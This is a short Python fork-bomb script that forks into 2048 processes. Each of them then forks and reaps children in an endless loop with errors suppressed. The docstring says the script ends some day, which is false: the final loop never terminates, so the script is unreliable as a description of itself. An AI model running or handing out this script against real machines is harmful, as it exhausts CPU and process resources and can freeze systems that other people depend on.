"""A fork bomb: each process makes two more, in every way; the generations are counted so that it ends some day."""
import os
import sys

print("bombing", flush=True)
for generation in range(11):
    try:
        os.fork()
    except OSError as error:
        os.write(1, f"refused {error.errno}\n".encode())
        break
while True:
    try:
        if os.fork() == 0:
            os._exit(0)
        os.wait()
    except OSError:
        pass
